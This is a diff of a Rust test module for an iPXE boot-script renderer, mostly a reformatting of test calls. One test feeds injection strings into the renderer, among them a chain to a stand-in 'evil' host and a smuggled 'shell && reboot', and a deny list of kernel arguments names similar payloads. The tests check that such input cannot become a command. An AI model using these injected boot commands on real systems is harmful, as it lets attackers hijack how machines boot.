@@ -208,7 +208,10 @@ mod tests {
 
     #[test]
     fn t4_a_workflow_is_booted_with_what_its_machine_needs_to_report() {
-        check("task=ready order=live files=here", 1, expect![[r#"
+        check(
+            "task=ready order=live files=here",
+            1,
+            expect![[r#"
             #!ipxe
             # workflow: attempt 1 of task 07070707070707070707070707070707 is ordered
             kernel --name kernel http://10.78.0.2:8080/blobs/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa initrd=initrd.img holdfast.site=http://10.78.0.2:8080 holdfast.node=67566bcde1e72c2e5f6d0f188b16b325 holdfast.task=07070707070707070707070707070707 holdfast.attempt=1 holdfast.token=5eed holdfast.mac=52:54:00:00:00:31 holdfast.image=cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc console=ttyS0 || goto failed
@@ -218,26 +221,38 @@ mod tests {
             echo The boot files could not be started, going on to the local disk
             sleep 5 ||
             iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
-        "#]]);
+        "#]],
+        );
     }
 
     #[test]
     fn a_machine_with_nothing_to_do_boots_its_own_disk() {
-        check("state=active", 1, expect![[r#"
+        check(
+            "state=active",
+            1,
+            expect![[r#"
             #!ipxe
             # local disk: nothing is ordered for this machine
             iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
-        "#]]);
-        check("pxe=off state=active", 1, expect![[r#"
+        "#]],
+        );
+        check(
+            "pxe=off state=active",
+            1,
+            expect![[r#"
             #!ipxe
             # silence: boot services are switched off for this site
             iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
-        "#]]);
+        "#]],
+        );
     }
 
     #[test]
     fn a_hold_page_says_why_asks_again_and_ends_at_the_disk() {
-        check("task=pending order=live files=missing", 1, expect![[r#"
+        check(
+            "task=pending order=live files=missing",
+            1,
+            expect![[r#"
             #!ipxe
             # hold page: the boot files are not all here yet
             echo
@@ -249,8 +264,12 @@ mod tests {
             sleep 6 ||
             chain --replace --autofree http://10.78.0.2:8080/boot/52:54:00:00:00:31?try=2 ||
             iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
-        "#]]);
-        check("unknown", 3, expect![[r#"
+        "#]],
+        );
+        check(
+            "unknown",
+            3,
+            expect![[r#"
             #!ipxe
             # hold page: the machine is unknown here, register it at central or let this site adopt
             echo
@@ -260,7 +279,8 @@ mod tests {
             echo Going on to the local disk in 6 s
             sleep 6 ||
             iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
-        "#]]);
+        "#]],
+        );
     }
 
     #[test]
@@ -273,7 +293,8 @@ mod tests {
     fn h6_no_text_from_elsewhere_becomes_a_command() {
         let mut view = view("state=install_failed");
         view.site.name = "lyon\nchain http://evil/${net0/mac}".into();
-        let reason = "x\r\nsanboot --drive 0x81 || shell && reboot ; exit # \u{202e}\u{1b}[2J ${cmdline} -- --help \\";
+        let reason =
+            "x\r\nsanboot --drive 0x81 || shell && reboot ; exit # \u{202e}\u{1b}[2J ${cmdline} -- --help \\";
         let decision = Decision { reason: Reason::new(reason), ..decide(&view) };
         let text = render(&decision, &view, server(), 1, "");
         expect![[r#"
@@ -288,11 +309,15 @@ mod tests {
             sleep 6 ||
             chain --replace --autofree http://10.78.0.2:8080/boot/52:54:00:00:00:31?try=2 ||
             iseq ${platform} efi && exit 1 || sanboot --no-describe --drive 0x80 || exit
-        "#]].assert_eq(&text);
+        "#]]
+        .assert_eq(&text);
         // What is left of it stands behind `echo` or `#`, without a word that ends a command.
         for line in text.lines().filter(|line| line.contains("evil") || line.contains("0x81")) {
             assert!(line.starts_with("echo ") || line.starts_with("# "), "{line}");
-            assert!(!line.contains("${") && !line.split(' ').any(|word| ["||", "&&", ";"].contains(&word)), "{line}");
+            assert!(
+                !line.contains("${") && !line.split(' ').any(|word| ["||", "&&", ";"].contains(&word)),
+                "{line}"
+            );
         }
     }
 
@@ -301,7 +326,20 @@ mod tests {
         for good in ["", "console=ttyS0 panic=1", "a=$b c=d;e f=\"g h\" i=j||k l=m#n"] {
             assert_eq!(check_kernel_args(good), Ok(()), "{good}");
         }
-        for bad in ["a || shell", "a && b", "a ; b", "#a", "a #b", "a\nshell", "a\tb", "${x}", "é", "a\\", "||", "\0"] {
+        for bad in [
+            "a || shell",
+            "a && b",
+            "a ; b",
+            "#a",
+            "a #b",
+            "a\nshell",
+            "a\tb",
+            "${x}",
+            "é",
+            "a\\",
+            "||",
+            "\0",
+        ] {
             assert!(check_kernel_args(bad).is_err(), "{bad:?}");
         }
     }
